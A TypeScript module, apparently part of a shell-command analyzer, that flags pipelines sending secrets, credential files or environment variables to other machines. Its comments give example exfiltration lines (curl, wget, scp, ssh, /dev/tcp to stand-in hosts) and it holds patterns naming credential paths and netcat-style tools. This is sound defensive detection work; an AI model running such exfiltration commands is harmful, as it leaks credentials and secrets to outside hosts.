import { toolOf } from '../../../analysis/commands/tool.ts';
import { mayNameSecret } from '../../../analysis/secrets/secret.ts';
import { FILTERS } from '../../../data/programs.ts';
import {
  type Command,
  everyPipeline,
  type Pipeline,
  type Redirect,
  type Script,
  type ShellWord,
} from '../../../model/shell.ts';
import { type Span, spanThrough } from '../../../model/source.ts';
import { hostOf, isThisMachine } from '../../../model/web-address.ts';
import { remember } from '../../../support/caches/remember.ts';
import { type KnownSecrets, NO_SECRETS } from './known-secrets.ts';

/** What a pipeline sends to another machine, as the object of a sentence, and where. */
export interface Sent {
  readonly at: Span;
  readonly what: string;
}

const VARIABLES = 'all of its variables';
const SECRETS = 'files with secrets';
const A_SECRET = 'a secret alone';

/**
 * `env | curl -d @- https://…`, `curl -d "$(env)" https://…`, `curl -d @/run/secrets/x https://…`, `wget "https://…/$(base64 /run/secrets/x)"`. A
 * secret in a header, or as a part of what is sent, is how programs log in, unless it is an encoded one in an address.
 */
export function sentSecrets({ commands }: Pipeline, secrets: KnownSecrets = NO_SECRETS): Sent | undefined {
  let flow: Flow | undefined;
  for (const command of commands) {
    const name = toolOf(command)?.name ?? '';
    const input = flow ?? inputOf(command, secrets);
    if (input !== undefined && (sendsInput(name, command) || logsIn(name, command, input)))
      return sentBy(input, command);
    const own = ownData(name, command, secrets) ?? copied(name, command, secrets);
    if (own !== undefined) return { at: command.span, what: own };
    flow = flowAfter(command, name, input, secrets);
    if (flow !== undefined && connects(command)) return sentBy(flow, command);
  }
  return undefined;
}

/** The variables that a pipeline fills with a secret: `K=$(cat /run/secrets/k)`, `read K < /run/secrets/k`. */
export function secretVariables({ commands }: Pipeline, secrets: KnownSecrets): readonly string[] {
  return commands.flatMap((command) => {
    const { program, assignments, arguments: words } = command;
    const assigned = assignments.filter(({ value }) => value !== undefined && isSecretOnly(value, command, secrets));
    const read = program === 'read' && inputOf(command, secrets) !== undefined ? words : [];
    return [
      ...assigned.map(({ name }) => name),
      ...read.map(({ pieces }) => pieces).filter((name) => /^\w+$/.test(name)),
    ];
  });
}

/** What goes through a pipe, and the command that prints it. */
interface Flow {
  readonly what: string;
  readonly start: Command;
}

/** `nc … < /run/secrets/k`, `nc … <<< "$K"` */
function inputOf(command: Command, secrets: KnownSecrets): Flow | undefined {
  const what = command.redirects.map((one) => redirected(one, command, secrets)).find((found) => found !== undefined);
  return what === undefined ? undefined : { what, start: command };
}

function redirected({ operator, target }: Redirect, command: Command, secrets: KnownSecrets): string | undefined {
  if (target === undefined) return undefined;
  if (operator === '<') return contentsOf(target.pieces, secrets);
  return operator === '<<<' && isSecretOnly(target, command, secrets) ? A_SECRET : undefined;
}

function flowAfter(command: Command, name: string, before: Flow | undefined, secrets: KnownSecrets): Flow | undefined {
  const what = printedBy(command, secrets);
  if (what !== undefined) return { what, start: command };
  return passesOn(name, command) ? before : undefined;
}

function passesOn(name: string, { arguments: [first] }: Command): boolean {
  if (name === 'openssl' && DIGESTS.test(first?.pieces ?? '')) return false;
  return name === '' || FILTERS.has(name) || KEEPERS.has(name);
}

const DIGESTS = /^(?:dgst|mac|pkeyutl|(?:md|sha|sm|rmd)\d)/;

function sentBy({ what, start }: Flow, { span }: Command): Sent {
  return { at: spanThrough(start.span, span), what };
}

/** Further programs that pass on what they read. */
const KEEPERS: ReadonlySet<string> = new Set([
  'base64',
  'base32',
  'gzip',
  'xz',
  'bzip2',
  'zstd',
  'openssl',
  'xxd',
  'tar',
  'jq',
  'od',
  'hexdump',
]);

/** What a command prints. */
function printedBy(command: Command, secrets: KnownSecrets): string | undefined {
  const { program, arguments: words } = command;
  const texts = words.map(({ pieces }) => pieces);
  if (program === 'env' || program === 'printenv' || program === 'set')
    return texts.every((text) => text === '-0' || text === '--null') ? VARIABLES : undefined;
  if (program === 'export' || program === 'declare') return /^-[px]$/.test(texts.join(' ')) ? VARIABLES : undefined;
  if (program === 'echo' || program === 'printf') return printsOnly(words, command, secrets) ? A_SECRET : undefined;
  if (!READERS.has(program)) return undefined;
  return texts.map((text) => contentsOf(text, secrets)).find((found) => found !== undefined);
}

/** Whether the words are a secret, and not a message or a login that has one in it: `echo "$K"`, `printf '%s' "$K"`. */
function printsOnly(words: readonly ShellWord[], command: Command, secrets: KnownSecrets): boolean {
  const texts = words.filter(({ pieces }) => !/^(?:-[neE]{1,3}|(?:%[sb])?(?:\\n)?)$/.test(pieces));
  return texts.length > 0 && texts.every((word) => isSecretOnly(word, command, secrets));
}

const READERS: ReadonlySet<unknown> = new Set(
  'cat tar base64 base32 gzip zip xz bzip2 zstd head tail tac rev cut sed awk grep xxd od hexdump strings jq'.split(
    ' ',
  ),
);

function contentsOf(path: string, { files, isBuild }: KnownSecrets): string | undefined {
  if (/^\/proc\/(?:self|1|\$\$)\/environ$/.test(path)) return VARIABLES;
  if (isBuild && /^(?:\/root|~)\/?$/.test(path)) return SECRETS;
  return (SECRET_FILES.test(path) && !PUBLIC_FILES.test(path)) || files.has(path) ? SECRETS : undefined;
}

const SECRET_FILES =
  /^(?:\/run\/secrets(?:\/|$)|(?:~|\/root|\/home\/[^/]{1,40})\/\.(?:ssh|aws|docker|kube|gnupg|npmrc|netrc|git-credentials)(?:\/|$))/;

const PUBLIC_FILES = /\/\.ssh\/(?:[^/]{1,100}\.pub|known_hosts[^/]{0,20}|authorized_keys2?|config)$/;

/** The words with data that a program sends: those after an option, or attached to it. */
const DATA_OPTION: ReadonlyMap<string, RegExp> = new Map([
  ['curl', /^(?:-[dFT]|--(?:data(?:-binary|-raw|-ascii|-urlencode)?|form|upload-file|json)(?==|$))/],
  ['wget', /^--(?:post-file|post-data|body-file|body-data)(?==|$)/],
]);

function ownData(name: string, command: Command, secrets: KnownSecrets): string | undefined {
  const option = DATA_OPTION.get(name);
  if (option === undefined || !isForElsewhere(command.arguments)) return undefined;
  const data = dataIn(command.arguments, option);
  const named = data.flatMap(({ pieces }) => contentsOf(pieces.replace(FILE_MARK, ''), secrets) ?? [])[0];
  const isAll = data.some((word) => printsVariables(word, command)) || namesVariables(command);
  const all = isAll ? VARIABLES : undefined;
  const only = data.some((word) => isSecretOnly(word, command, secrets)) ? A_SECRET : undefined;
  return named ?? all ?? only ?? inAddress(command, secrets);
}

/** `https://host/$(base64 /run/secrets/k)`: what a service reads as a login is not encoded, or in the name of a user. */
function inAddress({ arguments: words, substitutions }: Command, secrets: KnownSecrets): string | undefined {
  const addresses = words.filter(({ pieces }) =>
    /^(?:https?:\/\/|(?!https?:))[^/?#@\0]{1,300}[/?][^\0]{0,2000}\0/.test(pieces),
  );
  const isSent = addresses.some(({ span }) =>
    substitutions.some(
      ({ script }) => isWithin(script.span, span) && encodes(script) && printedByAll(script, secrets) === SECRETS,
    ),
  );
  return isSent ? SECRETS : undefined;
}

function encodes(script: Script): boolean {
  return everyPipeline(script).some(({ commands }) => commands.some(({ program }) => ENCODERS.has(program)));
}

const ENCODERS: ReadonlySet<unknown> = new Set('base64 base32 basenc gzip xxd od hexdump tar zip'.split(' '));

/** `@file`, `name=@file`, `name=<file` */
const FILE_MARK = /^(?:[\w-]{1,40}=)?[@<]/;

/** `scp /run/secrets/k me@collect.example.org:`; a file after an option, such as `-i`, is how it logs in. */
function copied(name: string, { arguments: words }: Command, secrets: KnownSecrets): string | undefined {
  if (name !== 'scp' && name !== 'rsync') return undefined;
  if (!/^(?:rsync:\/\/|scp:\/\/|[\w.-]{1,60}@)?[\w-]{1,60}(?:\.[\w-]{1,60}){1,9}:/.test(words.at(-1)?.pieces ?? ''))
    return undefined;
  const sources = words.filter(({ pieces }, at) => !pieces.startsWith('-') && !takesValue(words[at - 1]));
  return sources.map(({ pieces }) => contentsOf(pieces, secrets)).find((found) => found !== undefined);
}

/** Options of scp and rsync whose value is the next word: a key, a program, a port, a pattern. */
function takesValue(option: ShellWord | undefined): boolean {
  return /^-[A-Za-z0-9]{0,20}[iPoFJlScDXefTBM]$|^--(?:rsh|(?:ex|in)clude(?:-from)?|filter|files-from|[\w-]{1,20}-(?:file|path|dir)|port|bwlimit|ch(?:mod|own))$/.test(
    option?.pieces ?? '',
  );
}

/** `"$DB_PASSWORD"`, `"$(cat /run/secrets/k)"`, alone. */
function isSecretOnly(word: ShellWord, command: Command, secrets: KnownSecrets): boolean {
  if (isSecretVariable(word, secrets)) return true;
  const inside = /^["']?(?:\$\(.*\)|`.*`)["']?$/s.test(word.raw)
    ? command.substitutions.find(({ script }) => isWithin(script.span, word.span))
    : undefined;
  return inside !== undefined && printedByAll(inside.script, secrets) === SECRETS;
}

/** In Compose, two dollars are one. */
function isSecretVariable({ raw }: ShellWord, { variables }: KnownSecrets): boolean {
  const name = /^["']?\${1,2}\{?(\w+)\}?["']?$/.exec(raw)?.[1];
  return name !== undefined && (variables.has(name) || mayNameSecret(name));
}

function dataIn(words: readonly ShellWord[], option: RegExp): readonly ShellWord[] {
  return words.flatMap((word, at) => {
    const found = option.exec(word.pieces)?.[0];
    if (found !== undefined && found.length < word.pieces.length) return [withoutStart(word, found)];
    const before = words[at - 1]?.pieces ?? '';
    return option.exec(before)?.[0] === before && before !== '' ? [word] : [];
  });
}

/** The value of an option that it is attached to: `--post-data=x`, `-dx`. */
function withoutStart(word: ShellWord, option: string): ShellWord {
  const start = word.pieces.charAt(option.length) === '=' ? `${option}=` : option;
  return { ...word, pieces: word.pieces.slice(start.length), raw: word.raw.replace(start, () => '') };
}

/** `"$(env)"`, alone or through filters */
function printsVariables({ span }: ShellWord, { substitutions }: Command): boolean {
  return substitutions.some(
    ({ script }) => isWithin(script.span, span) && printedByAll(script, NO_SECRETS) === VARIABLES,
  );
}

/** The same in an address or a header, where a few variables that are selected say what somebody asks for. */
function namesVariables(command: Command): boolean {
  const isSelected = command.substitutions.some(({ script }) =>
    everyPipeline(script).some(({ commands }) => commands.some(({ program }) => SELECTING.has(program))),
  );
  return !isSelected && command.arguments.some((word) => printsVariables(word, command));
}

const SELECTING: ReadonlySet<unknown> = new Set('grep egrep fgrep rg awk gawk sed cut head tail'.split(' '));

function isWithin(inner: Span, outer: Span): boolean {
  return inner.file === outer.file && outer.start <= inner.start && inner.end <= outer.end;
}

/** What the pipelines of a substitution print, alone or through filters. */
function printedByAll(script: Script, secrets: KnownSecrets): string | undefined {
  return printedWith(secrets)(script);
}

/** Each substitution is followed once, since all those around it ask. */
const printedWith = remember((secrets: KnownSecrets) => remember((script: Script) => firstPrinted(script, secrets)));

function firstPrinted(script: Script, secrets: KnownSecrets): string | undefined {
  for (const { commands } of everyPipeline(script)) {
    let flow: Flow | undefined;
    for (const command of commands) {
      const input = flow ?? inputOf(command, secrets);
      flow = flowAfter(command, toolOf(command)?.name ?? '', input, secrets);
    }
    if (flow !== undefined) return flow.what;
  }
  return undefined;
}

/** Whether a program sends what it reads. */
function sendsInput(name: string, { arguments: words }: Command): boolean {
  if (CONNECTORS.has(name)) return connectsElsewhere(words);
  const option = DATA_OPTION.get(name);
  if (option === undefined || !isForElsewhere(words)) return false;
  return dataIn(words, option).some(({ pieces }) => /(?:^|[@=])(?:-|\/dev\/stdin)$/.test(pieces));
}

/** `tar c /run/secrets | ssh me@collect.example.org …`. A password alone is one for the commands there: `echo "$P" | ssh host sudo -S …`. */
function logsIn(name: string, { arguments: words }: Command, { what }: Flow): boolean {
  return (
    name === 'ssh' &&
    what !== A_SECRET &&
    words.some(({ pieces }) => /^(?:[\w.-]{1,60}@)?[\w-]{1,60}(?:\.[\w-]{1,60}){1,9}$/.test(pieces))
  );
}

/** Not to this machine, a socket in a file, or a service of the same project, whose name has no dot. */
function connectsElsewhere(words: readonly ShellWord[]): boolean {
  if (words.some(({ pieces }) => isThisMachine(pieces) || /^-[a-zA-Z]{0,9}[lzU]|^UNIX/.test(pieces))) return false;
  return words.some(({ pieces }) => /\./.test(pieces) && !pieces.startsWith('/'));
}

const CONNECTORS: ReadonlySet<string> = new Set(['nc', 'ncat', 'netcat', 'socat', 'telnet']);

/** `env > /dev/tcp/203.0.113.7/80` */
function connects({ redirects }: Command): boolean {
  return redirects.some(({ target }) => /^\/dev\/(?:tcp|udp)\/(?!localhost\/|127\.)./.test(target?.pieces ?? ''));
}

/** A name without a dot is that of a service of the same project. */
function isForElsewhere(words: readonly ShellWord[]): boolean {
  return words.some(({ pieces }) => {
    const host = hostOf(pieces) ?? '';
    return host.includes('.') && !isThisMachine(host);
  });
}
